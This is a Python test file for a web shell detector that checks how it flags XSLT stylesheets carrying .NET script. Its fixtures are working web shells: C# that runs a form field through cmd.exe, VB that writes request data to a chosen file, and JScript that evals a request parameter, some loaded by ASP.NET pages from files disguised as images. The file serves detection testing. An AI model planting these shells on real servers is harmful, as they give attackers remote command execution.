"""XSLT stylesheets with `msxsl:script`: the script elements are class members the .NET transform
compiles (docs/detection/webshell-code.md, "Script in XSLT stylesheets"). A stylesheet whose
script takes the request to a sink is reported as a page would be; one whose script formats
values, or that has no .NET script at all, is not read or reports nothing."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from code_support import assert_found, medium_or_above, prefilter_reads, run
from exhunt.codeanalysis.analysis import analyze_code
from exhunt.codeanalysis.extract import references
from exhunt.codeanalysis.report import Included
from exhunt.codeanalysis.stylesheet import MAX_PREFIXES, MAX_SCRIPTS, stylesheet
from files_support import by_rule, hunt, server_file

HEAD = (
    '<?xml version="1.0"?>\n'
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"\n'
    '    xmlns:{p}="urn:schemas-microsoft-com:xslt" xmlns:u="urn:u">\n'
)
TAIL = '<xsl:template match="/"><xsl:value-of select="u:run()"/></xsl:template>\n</xsl:stylesheet>\n'


def sheet(script: str, prefix: str = "msxsl") -> str:
    return HEAD.format(p=prefix) + script + TAIL


RUNNER = sheet(
    """<msxsl:script language="C#" implements-prefix="u">
  <msxsl:assembly name="System.Web"/>
  <msxsl:using namespace="System.Diagnostics"/>
  <msxsl:using namespace="System.Web"/>
  <![CDATA[
  public string run() {
      string c = HttpContext.Current.Request.Form["c"];
      var p = Process.Start(new ProcessStartInfo("cmd.exe", "/c " + c) {
          RedirectStandardOutput = true, UseShellExecute = false });
      return p.StandardOutput.ReadToEnd();
  }
  ]]>
</msxsl:script>
"""
)

# Visual Basic without CDATA: `<>` written as entities, as XML wants outside CDATA.
WRITER = sheet(
    """<ms:script language="VB" implements-prefix="u">
Public Function run() As String
  Dim rq = System.Web.HttpContext.Current.Request
  If rq("k") &lt;&gt; "" Then System.IO.File.WriteAllText(rq("p"), rq("k"))
  Return ""
End Function
</ms:script>
""",
    prefix="ms",
)

# No language: JScript, the processor's default.
EVALUATOR = sheet(
    """<msxsl:script implements-prefix="u"><!-- helpers -->
function run() { return eval(System.Web.HttpContext.Current.Request.Item["z"], "unsafe"); }
</msxsl:script>
"""
)

SHELLS = [
    ("report.xsl", RUNNER, "EXH-WS-CODE-PROCESS", ["form field 'c'", "runs it as a command"], 11),
    ("view.xslt", WRITER, "EXH-WS-CODE-FILE-WRITE", ["request parameter 'p'", "writes it to a file"], 7),
    ("list.xsl", EVALUATOR, "EXH-WS-CODE-EVAL", ["request parameter 'z'", '"unsafe"'], 5),
]


@pytest.mark.parametrize(("name", "text", "rule_id", "words", "line"), SHELLS, ids=[s[0] for s in SHELLS])
def test_stylesheet_shell_found_at_its_line(name: str, text: str, rule_id: str, words: list[str], line: int) -> None:
    report = assert_found(name, text, rule_id, words)
    found = next(c for c in report.capabilities if c.rule_id == rule_id)
    assert found.line == line, (found.line, found.lines)


def test_using_children_are_the_imports() -> None:
    extracted, unread = stylesheet(RUNNER)
    assert not unread
    assert [(d.name, d.attrs) for d in extracted.directives] == [
        ("Assembly", {"name": "System.Web"}),
        ("Import", {"namespace": "System.Diagnostics"}),
        ("Import", {"namespace": "System.Web"}),
    ]
    # The children and CDATA markers are blanked, the lines kept.
    (unit,) = extracted.units
    assert "msxsl" not in unit.text and "CDATA" not in unit.text
    assert unit.text.splitlines()[9].strip().startswith("string c = HttpContext")


BENIGN = [
    # Script that formats values: no request, no sink.
    (
        "fmt.xslt",
        sheet(
            """<msxsl:script language="C#" implements-prefix="u"><![CDATA[
  public string Date(string iso) { return System.DateTime.Parse(iso).ToString("d MMM yyyy"); }
  public string run() { return "&amp;" + "<b>"; }
]]></msxsl:script>
"""
        ),
    ),
    # A stylesheet of MSXML's script, run by Windows tools (`wmic /format:`), not by ASP.NET: a
    # fixed command is not a web shell's capability.
    (
        "calc.xsl",
        '<stylesheet xmlns="http://www.w3.org/1999/XSL/Transform" xmlns:ms="urn:schemas-microsoft-com:xslt"'
        ' xmlns:user="placeholder" version="1.0">\n<ms:script implements-prefix="user" language="JScript">'
        '<![CDATA[ var r = new ActiveXObject("WScript.Shell").Run("calc.exe"); ]]></ms:script>\n</stylesheet>\n',
    ),
    # Script in a comment, or in an element of another name, is not compiled.
    (
        "doc.xsl",
        sheet(
            '<!-- <msxsl:script language="C#">void run() { System.Diagnostics.Process.Start('
            'System.Web.HttpContext.Current.Request["c"]); }</msxsl:script> -->\n'
            '<msxsl:scripts><msxsl:script language="C#" implements-prefix="u"/></msxsl:scripts>\n'
        ),
    ),
]


@pytest.mark.parametrize(("name", "text"), BENIGN, ids=[b[0] for b in BENIGN])
def test_benign_stylesheet(name: str, text: str) -> None:
    report = run(name, text)
    assert medium_or_above(report) == [], [c.chain for c in report.capabilities]


def test_prefilter_reads_only_stylesheets_with_net_script() -> None:
    assert prefilter_reads("report.xsl", RUNNER)
    assert prefilter_reads("wide.xslt", RUNNER)
    plain = '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>'
    assert not prefilter_reads("plain.xsl", plain)


def test_hostile_stylesheets_cost_bounded_time() -> None:
    opens = sheet('<msxsl:script language="C#">' * 20000)  # never closed
    cdata = sheet('<msxsl:script language="C#">' + "<![CDATA[" * 20000 + "</msxsl:script>")
    comments = sheet('<msxsl:script language="C#">' + "<!--" * 20000 + "</msxsl:script>")
    entities = sheet('<msxsl:script language="C#">' + "&#xFFFFFF;&#0;&lt;" * 20000 + "</msxsl:script>")
    for text in (opens, cdata, comments, entities):
        began = time.monotonic()
        report = run("x.xsl", text)
        assert time.monotonic() - began < 10
        assert medium_or_above(report) == []


def test_prefixes_past_the_limit_are_a_problem() -> None:
    bound = " ".join(f'xmlns:p{i}="urn:schemas-microsoft-com:xslt"' for i in range(MAX_PREFIXES + 1))
    text = f"<xsl:stylesheet {bound}>" + "".join(
        f'<p{i}:script language="C#">int f{i};</p{i}:script>' for i in range(MAX_PREFIXES + 1)
    )
    _, unread = stylesheet(text + "</xsl:stylesheet>")
    assert unread


def test_letters_that_lengthen_in_lower_case_do_not_move_the_code() -> None:
    # `İ` lower-cases to two characters: offsets found in a lowered copy would be off by one each.
    report = run("dotted.xsl", RUNNER.replace("<msxsl:script", '<u:doc t="' + "İ" * 50 + '"/><msxsl:script', 1))
    assert "EXH-WS-CODE-PROCESS" in medium_or_above(report)


def test_script_elements_past_the_limit_are_a_problem() -> None:
    many = sheet('<msxsl:script language="C#" implements-prefix="u">int f;</msxsl:script>\n' * (MAX_SCRIPTS + 1))
    _, unread = stylesheet(many)
    assert unread
    report = run("many.xsl", many)
    assert any(p.kind == "limit" and "script elements" in p.message for p in report.problems)


# ----------------------------------------------------------------------- run by a page's control

APP = "C:\\inetpub\\wwwroot\\app\\"
XML_PAGE = b"""<%@ Page Language="C#" %>
<html><body>
<asp:Xml ID="view" runat="server" DocumentContent="<a/>" TransformSource="~/img/logo.jpg" />
</body></html>
"""


def test_a_page_names_the_stylesheet_its_xml_control_runs() -> None:
    assert [(r.kind, r.path, r.line, r.virtual) for r in references(XML_PAGE.decode())] == [
        ("transform", "~/img/logo.jpg", 3, True)
    ]
    # A control not run on the server, and one with no stylesheet, name nothing.
    assert references('<asp:Xml TransformSource="a.xsl" />\n<asp:Xml runat="server" DocumentSource="d.xml" />') == []


def test_a_stylesheet_under_another_name_is_read_with_the_page(tmp_path: Path) -> None:
    # Saved as an image, the stylesheet is not read on its own (not an `.xsl` file): the page
    # whose control runs it reports its script, naming the file and line.
    page = server_file(tmp_path, APP + "view.aspx", XML_PAGE)
    server_file(tmp_path, "C:\\inetpub\\wwwroot\\img\\logo.jpg", RUNNER.encode())
    found = by_rule(hunt(page))
    assert "EXH-WS-CODE-PROCESS" in found
    details = dict(found["EXH-WS-CODE-PROCESS"].details)
    assert "~/img/logo.jpg line 11" in details["chain"]
    assert details["included_files"] == "~/img/logo.jpg (named at line 3)"


def test_a_page_running_a_formatting_stylesheet_stays_quiet(tmp_path: Path) -> None:
    page = server_file(tmp_path, APP + "view.aspx", XML_PAGE)
    server_file(tmp_path, "C:\\inetpub\\wwwroot\\img\\logo.jpg", BENIGN[0][1].encode())
    result = hunt(page)
    assert [f.rule_id for f in result.findings if f.severity.rank >= 2 and f.rule_id.startswith("EXH-WS-CODE")] == []


def test_script_past_the_limits_of_a_page_s_stylesheet_is_a_problem_of_the_page() -> None:
    many = sheet('<msxsl:script language="C#" implements-prefix="u">int f;</msxsl:script>\n' * (MAX_SCRIPTS + 1))
    report = analyze_code(XML_PAGE, "view.aspx", included=[Included("transform", "~/img/logo.jpg", 3, many.encode())])
    assert any(
        p.kind == "limit" and "~/img/logo.jpg (named at line 3)" in p.message and p.line == 3 for p in report.problems
    ), report.problems


# An XmlDataSource runs its stylesheet as the Xml control does: one named by `TransformFile`, or
# one written inside the page (`<Transform>`), when a control bound to it asks for the data.
DATA_SOURCE_PAGE = b"""<%@ Page Language="C#" %>
<html><body><form runat="server">
<asp:XmlDataSource ID="menu" runat="server" DataFile="~/App_Data/menu.xml" TransformFile="~/img/menu.gif" />
<asp:TreeView runat="server" DataSourceID="menu" />
</form></body></html>
"""


def test_a_page_names_the_stylesheet_its_xml_data_source_runs(tmp_path: Path) -> None:
    assert [(r.kind, r.path, r.line) for r in references(DATA_SOURCE_PAGE.decode())] == [
        ("transform", "~/img/menu.gif", 3)
    ]
    page = server_file(tmp_path, APP + "menu.aspx", DATA_SOURCE_PAGE)
    server_file(tmp_path, "C:\\inetpub\\wwwroot\\img\\menu.gif", RUNNER.encode())
    found = by_rule(hunt(page))
    assert "~/img/menu.gif line 11" in dict(found["EXH-WS-CODE-PROCESS"].details)["chain"]


def inline_page(stylesheet: str) -> bytes:
    body = stylesheet.split("?>", 1)[1]  # no XML declaration inside a page
    return (
        '<%@ Page Language="C#" %>\n<html><body><form runat="server">\n'
        f'<asp:XmlDataSource ID="menu" runat="server" DataFile="~/App_Data/menu.xml"><Transform>{body}</Transform>'
        '</asp:XmlDataSource>\n<asp:TreeView runat="server" DataSourceID="menu" />\n</form></body></html>\n'
    ).encode()


def test_a_stylesheet_written_inside_the_page() -> None:
    report = analyze_code(inline_page(RUNNER), "menu.aspx")
    caps = [c for c in report.capabilities if c.rule_id == "EXH-WS-CODE-PROCESS"]
    assert caps and all("form field 'c'" in c.chain for c in caps)
    assert {c.line for c in caps} == {13}  # the script's line in the page (the stylesheet starts on line 4)


def test_a_formatting_stylesheet_inside_the_page_stays_quiet() -> None:
    assert medium_or_above(analyze_code(inline_page(BENIGN[0][1]), "menu.aspx")) == []
